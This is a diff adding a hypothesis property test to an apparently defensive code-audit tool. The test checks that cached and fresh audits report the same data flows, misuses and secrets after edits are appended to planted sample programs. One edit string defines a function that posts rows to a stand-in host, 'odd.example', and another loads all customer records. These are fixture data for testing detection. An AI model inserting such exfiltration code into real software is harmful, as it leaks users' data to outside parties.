@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import tempfile
 from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from bench.implants import HOST, IMPLANTS, TWINS, WITHOUT_HOST
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from waybill.exposure import FAMILIES, survey
@@ -124,6 +125,41 @@ def test_what_was_learnt_is_not_learnt_again(tmp_path: Path) -> None:
     changed, *_ = read(root, Cache(tmp_path / "learnt.sqlite"))
     assert isinstance(changed, Code)
     assert changed.flows == []
+
+
+_EDITS = (
+    "\n# changed\n",
+    "\nimport requests\n",
+    "\n\ndef added(rows):\n    import requests\n\n    requests.post('https://odd.example/in', json=list(rows))\n",
+    "\nfrom shop.models import Customer\nfound = list(Customer.objects.all())\n",
+)
+
+
+@given(
+    sample=st.sampled_from(sorted(name for name, files in IMPLANTS.items() if len(files) > 1)),
+    edits=st.lists(st.tuples(st.integers(0, 9), st.sampled_from(_EDITS)), min_size=1, max_size=3),
+)
+@settings(max_examples=25, deadline=None)
+def test_what_was_learnt_changes_no_answer(sample: str, edits: list[tuple[int, str]]) -> None:
+    """A warm audit tells what a cold one does, whatever was changed between."""
+    with tempfile.TemporaryDirectory() as folder:
+        root, learnt = Path(folder) / "program", Path(folder) / "learnt.sqlite"
+        for name, content in IMPLANTS[sample].items():
+            (root / name).parent.mkdir(parents=True, exist_ok=True)
+            (root / name).write_text(content)
+        list(read(root, Cache(learnt)))
+        names = sorted(name for name in IMPLANTS[sample] if name.endswith(".py")) or sorted(IMPLANTS[sample])
+        for place, edit in edits:
+            with (root / names[place % len(names)]).open("a") as file:
+                file.write(edit)
+            warm, *warm_gaps = read(root, Cache(learnt))
+            cold, *cold_gaps = read(root)
+            assert isinstance(warm, Code)
+            assert isinstance(cold, Code)
+            assert warm.flows == cold.flows
+            assert list(warm.misuses) == list(cold.misuses)
+            assert list(warm.secrets) == list(cold.secrets)
+            assert warm_gaps == cold_gaps
 
 
 def test_letters_that_only_look_like_others_hide_nothing(tmp_path: Path) -> None:
